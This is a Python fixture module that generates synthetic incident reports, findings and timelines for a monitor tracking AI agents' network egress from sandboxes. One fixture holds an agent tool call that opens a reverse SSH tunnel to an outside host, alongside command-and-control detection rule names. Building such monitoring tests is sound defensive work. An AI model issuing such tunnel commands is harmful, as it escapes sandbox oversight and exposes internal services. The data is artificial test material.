"""Output directories to make reports of: small stories by hand, and long ones."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING, Any

import numpy as np
import orjson
import pyarrow as pa
import pyarrow.parquet as pq

from agenttrail.incident_files import timeline_schema

if TYPE_CHECKING:
    from collections.abc import Sequence
    from pathlib import Path

Document = dict[str, Any]
BEGIN = datetime(2026, 3, 2, tzinfo=UTC)
CALL = '{"command": "./run.sh"}'


def at(minutes: float) -> str:
    """Return the time so many minutes after the begin."""
    return (BEGIN + timedelta(minutes=minutes)).isoformat(timespec="milliseconds").replace("+00:00", "Z")


def incident(number: int, **changed: Any) -> Document:
    """Return an incident of minutes 10 to 30 of hour ``number``."""
    base = 60 * number
    return {
        "incident.id": f"{number:032x}", "@timestamp": at(base + 10), "incident.first_seen": at(base + 10),
        "incident.last_seen": at(base + 30), "incident.severity": "high", "incident.risk_score": 70.0 - number,
        "incident.risk_factors": ["+65 the worst finding is high"],
        "incident.title": f"SSH to an unlisted peer by trajectory t{number}", "incident.summary": "SSH.",
        "entity.type": "trajectory", "entity.id": f"t{number}", "gen_ai.agent.id": f"agent-{number % 3}",
        "trajectory.id": f"t{number}", "sandbox.id": f"s{number}", "job.id": "j", "host.name": "h",
        "attribution.status": "attributed", "attribution.level": "trajectory",
        "attribution.lease_id": [f"lease{number}"],
        "attribution.reason": ["a lease covers the start"], "attribution.lease_start": at(base),
        "attribution.lease_end": at(base + 59), "rule.name": ["command-and-control/ssh-to-unlisted-peer"],
        "threat.technique.id": ["T1021.004"], "destination.ip": ["198.51.100.7"], "destination.port": [22],
        "event.dataset": ["aws_vpc_flow", "otlp_spans"], "event.count": 3, "gen_ai.tool.name": "shell",
        "gen_ai.tool.call.id": f"call{number}", "gen_ai.tool.call.start": at(base + 9.5),
        "gen_ai.tool.call.gap": 30.0, "recommendation": ["Cut it.", "Ask its owner."], **changed,
    }  # fmt: skip


def finding(number: int, **changed: Any) -> Document:
    """Return the finding that opened it."""
    base = 60 * number
    whole = incident(number)
    event = {
        "event.id": "e", "event.dataset": "aws_vpc_flow", "event.start": at(base + 10), "destination.port": 22,
        "source.ip": "10.0.0.1", "source.port": 40_000, "destination.ip": "198.51.100.7", "network.direction": "egress",
        "event.action": "accept", "event.outcome": "success", "source.bytes": 1_500, "source.packets": 12,
        "destination.domain": "peer.example",
        "event.original": f"2 1 eni-1 10.0.0.1 198.51.100.7 40000 22 6 {number}", "log.file.path": "flow.log",
        "log.offset": 10,
    }  # fmt: skip
    kept = ("gen_ai.agent.id", "trajectory.id", "sandbox.id", "attribution.lease_id", "attribution.lease_start")
    return {
        **{name: whole[name] for name in kept},
        "finding.id": f"{number:016x}{'0' * 16}", "incident.id": whole["incident.id"],
        "finding.first_seen": at(base + 10),
        "finding.last_seen": at(base + 30), "finding.severity": "high", "finding.title": "SSH to an unlisted peer",
        "rule.id": "8d1a0f56-3c2b-4b9b-b1f7-5f1e2f0c7a03", "rule.name": "command-and-control/ssh-to-unlisted-peer",
        "peer.ip": "198.51.100.7", "peer.port": [22], "event.dataset": ["aws_vpc_flow"], "event.count": 3,
        "event.outcome": ["success"],
        "network.conversations": 1, "source.bytes": 4_000, "destination.bytes": 900, "finding.evidence": [event],
        "recommendation": ["Cut it."], **changed,
    }  # fmt: skip


def call_finding(number: int, **changed: Any) -> Document:
    """Return a finding on the text of its tool call."""
    said = '{"command": "ssh -fN -R 16708:localhost:6006 root@198.51.100.7"}'
    event = {
        "event.id": "c", "event.dataset": "otlp_spans", "event.start": at(60 * number + 9.5),
        "gen_ai.operation.name": "execute_tool", "gen_ai.tool.name": "shell", "gen_ai.tool.call.id": f"call{number}",
        "gen_ai.tool.call.arguments": said, "event.outcome": "success", "event.original": "{}",
    }  # fmt: skip
    call = {name: value for name, value in incident(number).items() if name.startswith("gen_ai.tool.")}
    told = {
        **finding(number), **call, "gen_ai.tool.call.gap": 0.0, "finding.id": f"{number:016x}{'1' * 16}",
        "rule.id": "1828953f-1d9f-5a9a-ace0-f047e8c6b0d5", "event.dataset": ["otlp_spans"],
        "rule.name": "command-and-control/reverse-tunnel-in-tool-call", "event.count": 1, "finding.evidence": [event],
        "finding.title": "Tool call opens a reverse SSH tunnel", "event.outcome": ["failure"],
    }  # fmt: skip
    return {name: value for name, value in told.items() if not name.startswith("peer.")} | changed


def unsure(number: int, of: Document, **changed: Any) -> Document:
    """Return an ambiguous incident of which another is a candidate, at the same time and with the same peer."""
    names = ("gen_ai.agent.id", "trajectory.id", "sandbox.id", "attribution.lease_id", "attribution.lease_start")
    return {name: value for name, value in of.items() if name not in names} | {
        "incident.id": f"{number:032x}", "entity.type": "address", "entity.id": "10.0.0.1",
        "incident.title": f"SSH to an unlisted peer by address 10.0.0.{number}", "attribution.status": "ambiguous",
        "attribution.level": "address", "attribution.candidates": [*of["attribution.lease_id"], "another"], **changed,
    }  # fmt: skip


def timeline(number: int) -> list[Document]:
    """Return what happened around it: a lease, calls, GPUs, steps, two peers, a gap and the finding."""
    base = 60 * number

    def entry(kind: str, start: float, end: float | None = None, **values: Any) -> Document:
        return {
            "timeline.id": f"{number}-{kind}-{start}-{values.get('peer.ip', '')}", "incident.id": f"{number:032x}",
            "timeline.kind": kind, "@timestamp": at(base + start), **({"event.end": at(base + end)} if end else {}),
            **values,
        }  # fmt: skip

    named = {"gen_ai.tool.name": "shell", "gen_ai.tool.call.id": f"call{number}"}
    entries = [
        entry("lease_start", 0), entry("lease_end", 59), entry("gap", 50, 52, **{"event.reason": "no progress"}),
        entry("tool_call", 5, 5.2, **{"gen_ai.tool.name": "python", "gen_ai.tool.call.id": "other"}),
        entry("tool_call", 9.5, 9.6, **named, **{"gen_ai.tool.call.arguments": CALL}),
        entry("finding", 10, 30, **named, **{
            "finding.severity": "high", "finding.title": "SSH to an unlisted peer", "peer.ip": "198.51.100.7",
            "gen_ai.tool.call.gap": 30.0,
        }),
    ]  # fmt: skip
    for minute in range(10, 31):
        sent = {"source.bytes": 100 * minute, "destination.bytes": 40}
        entries.append(
            entry("egress", minute, minute + 1, **sent, **{
                "peer.ip": "198.51.100.7", "peer.port": 22, "event.outcome": "success" if minute < 28 else "failure",
            })
        )  # fmt: skip
        use = 95.0 if minute > 12 else 3.0
        entries.append(entry("gpu", minute, minute + 1, **{"gpu.utilization": use}))
        entries.append(entry("step", minute, minute + 1, **{"training.step": min(minute, 12)}))
    return entries


def write_output(
    folder: Path, incidents: Sequence[Document], findings: Sequence[Document], entries: Sequence[Document] = ()
) -> Path:
    """Write them as an output directory."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, rows in (("incidents", incidents), ("findings", findings)):
        (folder / f"{name}.ndjson").write_bytes(b"".join(orjson.dumps(row) + b"\n" for row in rows))
    (folder / "run.json").write_bytes(orjson.dumps({"job": "day", "notes": ["2 lines could not be read"]}))
    write_timeline(folder, [_timed(entry) for entry in entries])
    return folder


def _timed(entry: Document) -> Document:
    return entry | {
        name: datetime.fromisoformat(entry[name]) for name in ("@timestamp", "event.end") if name in entry
    }  # fmt: skip


def write_timeline(folder: Path, rows: Sequence[Document], shard: int = 0) -> None:
    """Write timeline entries with times as a file of timelines."""
    (folder / "timeline").mkdir(exist_ok=True)
    table = pa.Table.from_pylist(list(rows), timeline_schema())
    pq.write_table(table, folder / "timeline" / f"timeline-{shard:05d}.parquet")


def stories(folder: Path, count: int) -> Path:
    """Write so many incidents, of three agents, each with its finding and its timeline."""
    severities = ("critical", "high", "medium")
    incidents = [incident(number, **{"incident.severity": severities[number % 3]}) for number in range(count)]
    findings = [finding(number) for number in range(count)]
    return write_output(folder, incidents, findings, [entry for number in range(count) for entry in timeline(number)])


def long_stories(folder: Path, count: int, length: int) -> Path:
    """Write incidents with so many timeline entries each; findings with as much evidence as there may be."""
    evidence = finding(0)["finding.evidence"] * 20
    several = [
        finding(number, **{"finding.id": f"{number:016x}{one:016x}", "finding.evidence": evidence})
        for number in range(count)
        for one in range(8)
    ]
    write_output(folder, [incident(number) for number in range(count)], several)
    dice = np.random.default_rng(7)
    minutes = np.arange(length) // 4
    kinds = np.array(["tool_call", "egress", "gpu", "step"])[np.arange(length) % 4]
    begin = int(BEGIN.timestamp()) * 1_000_000
    told: list[pa.Table] = []
    for number in range(count):
        into = np.where(kinds == "tool_call", dice.integers(0, 60, length), 0)
        start = begin + minutes * 60_000_000 + into * 1_000_000
        columns = {
            "timeline.id": [f"{number:08x}{row:08x}" for row in range(length)],
            "incident.id": [f"{number:032x}"] * length,
            "@timestamp": pa.array(start).cast(pa.timestamp("us", "UTC")),
            "event.end": pa.array(start + 60_000_000).cast(pa.timestamp("us", "UTC")),
            "timeline.kind": kinds,
            "gen_ai.tool.name": ["bash" if kind == "tool_call" else None for kind in kinds],
            "gen_ai.tool.call.id": [f"c{row}" if kinds[row] == "tool_call" else None for row in range(length)],
            "gen_ai.tool.call.arguments": [
                f'{{"command": "make test {row}"}}' if kinds[row] == "tool_call" else None for row in range(length)
            ],
            "peer.ip": [f"198.51.100.{row % 11}" if kinds[row] == "egress" else None for row in range(length)],
            "source.bytes": pa.array(dice.integers(0, 1_000_000, length), mask=kinds != "egress"),
            "destination.bytes": pa.array(dice.integers(0, 1_000_000, length), mask=kinds != "egress"),
            "event.outcome": ["success" if kind == "egress" else None for kind in kinds],
            "gpu.utilization": pa.array(dice.uniform(0, 100, length), mask=kinds != "gpu"),
            "training.step": pa.array(minutes, mask=kinds != "step"),
        }
        told.append(pa.table(columns))
    table = pa.concat_tables(told)
    for shard in range(4):
        part = table.slice(shard * len(table) // 4, len(table) // 4)  # some incidents lie in two files
        pq.write_table(part, folder / "timeline" / f"timeline-{shard:05d}.parquet")
    return folder
